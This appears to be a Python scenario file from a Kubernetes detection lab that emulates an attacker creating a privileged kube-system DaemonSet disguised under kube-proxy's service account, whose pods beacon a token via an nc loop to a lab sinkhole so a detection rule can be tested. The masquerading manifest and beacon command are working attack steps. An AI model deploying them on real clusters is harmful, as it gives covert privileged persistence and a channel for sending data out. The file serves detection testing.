"""Borrow kube-proxy's sanction by copying it: a DaemonSet of one's own in kube-system, under the
kube-proxy service account, whose privileged pods the DaemonSet controller creates."""

from __future__ import annotations

import secrets

from lab import Lab
from scenarios.api import Expectation, Kind, Scenario


class KubeProxyNamesake(Scenario):
    id = "kubernetes.deploy.kube-proxy-namesake"
    title = "Privileged DaemonSet in kube-system under kube-proxy's service account"
    kind = Kind.ADVERSARY
    techniques = ("T1543.005", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.system-namespace-deploy",), within_s=20)
    twin = "kubernetes.deploy.kube-proxy-restart"
    forges = ("kubernetes/sanctioned_workloads/kube-system-addons",)
    tags = ("kubernetes", "persistence", "defense-evasion")
    description = (
        "Thinking as someone who read the kube-system add-ons sanction, which binds to the namespace "
        "and the creating identity (the DaemonSet controller): with an admin's credentials, creates a "
        "DaemonSet of its own in kube-system, named and accounted like kube-proxy (its service "
        "account), whose privileged pods on the node's network send a token to the lab internet's "
        "sinkhole every two seconds. Every fact the sanction checks on its pods is true; the "
        "DaemonSet's creation by someone who is not the control plane or the approved deployer is "
        "what gives it away. The scenario checks the sinkhole heard the token."
    )

    def detonate(self, lab: Lab) -> None:
        marker = secrets.token_hex(6)
        beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
        name = lab.name("kube-proxy-metrics")
        labels = {"app.kubernetes.io/name": name}
        lab.cleanup(f"delete daemonset kube-system/{name}",
                    lambda: lab.kubectl("delete", "daemonset", "-n", "kube-system", name, "--ignore-not-found",
                                        "--wait=true"))
        lab.action("create a privileged DaemonSet in kube-system under the kube-proxy service account")
        lab.apply({
            "apiVersion": "apps/v1", "kind": "DaemonSet",
            "metadata": {"name": name, "namespace": "kube-system", "labels": labels},
            "spec": {"selector": {"matchLabels": labels}, "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "serviceAccountName": "kube-proxy", "hostNetwork": True,
                    "automountServiceAccountToken": False, "terminationGracePeriodSeconds": 1,
                    "tolerations": [{"operator": "Exists"}],
                    "containers": [{"name": "metrics", "image": lab.image, "imagePullPolicy": "IfNotPresent",
                                    "command": ["sh", "-c", beacon], "securityContext": {"privileged": True}}],
                },
            }},
        })
        lab.wait_for(lambda: any(marker in r.get("head", "") for r in lab.sinkhole_records()), timeout=60,
                     what="the namesake DaemonSet's beacon to reach the sinkhole")
